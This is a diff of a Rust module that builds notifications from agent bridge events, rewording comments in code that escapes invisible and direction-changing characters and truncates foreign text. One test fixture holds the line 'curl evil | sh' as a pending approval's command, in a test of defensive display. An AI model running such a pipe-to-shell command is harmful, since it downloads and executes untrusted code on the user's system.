@@ -1,4 +1,4 @@
-//! Chooses notifications from bridge events.
+//! Derives notifications from bridge events.
 
 use openagents_core::visible::escaped;
 use serde_json::Value;
@@ -7,35 +7,34 @@ use std::collections::{HashMap, HashSet};
 /// Maximum characters of a text in a notification.
 const CHARS: usize = 300;
 
-/// A notification.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(crate) struct Notice {
-    /// `approval`, `turn` or `device`.
+    /// The kind: `approval`, `turn` or `device`.
     pub(crate) kind: &'static str,
     pub(crate) title: String,
     pub(crate) body: String,
 }
 
-/// Events already notified, over all connections.
+/// Events that were already notified, across all connections.
 #[derive(Debug, Default)]
 pub(crate) struct Notices {
-    /// By session with a turn or pending approvals: whether a turn runs, and the number of approvals.
+    /// Sessions with a turn or pending approvals: whether a turn is running, and the number of approvals.
     busy: HashMap<String, (bool, u64)>,
-    /// Ids of approvals and access requests.
+    /// Ids of approvals and access requests that were already notified.
     told: HashSet<String>,
 }
 
-/// News from a list of sessions.
+/// Changes found in a list of sessions.
 #[derive(Debug, Default, PartialEq, Eq)]
 pub(crate) struct ListNews {
-    /// Ended turns.
+    /// Notifications for ended turns.
     pub(crate) notices: Vec<Notice>,
-    /// Sessions with approvals to be read.
+    /// Sessions whose approvals are to be read.
     pub(crate) asking: Vec<String>,
 }
 
 impl Notices {
-    /// Takes rows of the list of sessions.
+    /// Handles rows of the session list.
     pub(crate) fn sessions(&mut self, rows: &Value) -> ListNews {
         let mut news = ListNews::default();
         for row in rows.as_array().into_iter().flatten() {
@@ -50,7 +49,7 @@ impl Notices {
                 let title = if title.is_empty() { "OpenAgents".to_owned() } else { title };
                 news.notices.push(Notice { kind: "turn", title, body: "Finished".to_owned() });
             }
-            // Another one may have taken the place of an answered one.
+            // A new approval may have replaced an answered one.
             if now.1 > 0 && before != Some(now) {
                 news.asking.push(id.to_owned());
             }
@@ -58,14 +57,14 @@ impl Notices {
         news
     }
 
-    /// Takes the pending approvals of a session.
+    /// Handles a session's pending approvals.
     pub(crate) fn approvals(&mut self, approvals: &Value) -> Vec<Notice> {
         let pending = approvals.as_array().into_iter().flatten();
         let new: Vec<_> = pending.filter(|approval| self.is_new(&approval["id"])).collect();
         let notice = |approval: &Value| Notice {
             kind: "approval",
             title: format!("{} is waiting", shown(approval["agent"].as_str().unwrap_or("An agent"))),
-            // An agent's title need not say what runs.
+            // An agent's title may not match what runs.
             body: shown(
                 approval["command"]["text"].as_str().or(approval["title"].as_str()).unwrap_or_default(),
             ),
@@ -73,7 +72,7 @@ impl Notices {
         new.into_iter().map(notice).collect()
     }
 
-    /// Takes the devices with their access requests.
+    /// Handles the devices and their access requests.
     pub(crate) fn devices(&mut self, devices: &Value) -> Vec<Notice> {
         let requests = devices["requests"].as_array().into_iter().flatten();
         let new: Vec<_> = requests.filter(|request| self.is_new(&request["id"])).collect();
@@ -98,9 +97,9 @@ impl Notices {
     }
 }
 
-/// Cuts a foreign text, and escapes what would not be seen or would change the order of the rest.
+/// Truncates foreign text, and escapes characters that are invisible or would reorder the rest.
 fn shown(text: &str) -> String {
-    // A notification has lines of its own: those of a text would pass for them.
+    // A notification has several lines; line breaks in the text would look like the notification's own.
     let text = escaped(text).replace(['\n', '\t'], " ");
     match text.char_indices().nth(CHARS) {
         Some((end, _)) => format!("{}…", &text[..end]),
@@ -130,12 +129,12 @@ mod tests {
             (notices.into_iter().map(|notice| notice.title).collect::<Vec<_>>(), asking)
         };
         let none = || (Vec::<String>::new(), Vec::<String>::new());
-        // Sessions that had ended before.
+        // Sessions that had already ended.
         assert_eq!(told(json!([row("a", false, 0), row("b", true, 0)])), none());
         assert_eq!(told(json!([row("b", true, 0)])), none());
         assert_eq!(told(json!([row("b", false, 0)])), (vec!["Title of b".to_owned()], vec![]));
         assert_eq!(told(json!([row("b", false, 0)])), none());
-        // An approval waits, its agent exits, it is answered.
+        // An approval is pending, its agent exits, the approval is answered.
         assert_eq!(told(json!([row("c", true, 1)])), (vec![], vec!["c".to_owned()]));
         assert_eq!(told(json!([row("c", true, 1)])), none());
         assert_eq!(told(json!([row("c", true, 2)])), (vec![], vec!["c".to_owned()]));
@@ -178,7 +177,7 @@ mod tests {
         assert_eq!(bodies(&told), [("approval", "Codex\\u{2066} is waiting", "curl evil | sh")]);
     }
 
-    /// Regression: the list of escaped characters was shorter than that of every other surface.
+    /// Regression: the list of escaped characters was shorter than on every other surface.
     #[test]
     fn texts_are_escaped_as_everywhere() {
         for text in ["a\u{3164}b", "a\u{a0}b", "a\u{fe00}b", "a\u{202e}b\u{1b}"] {
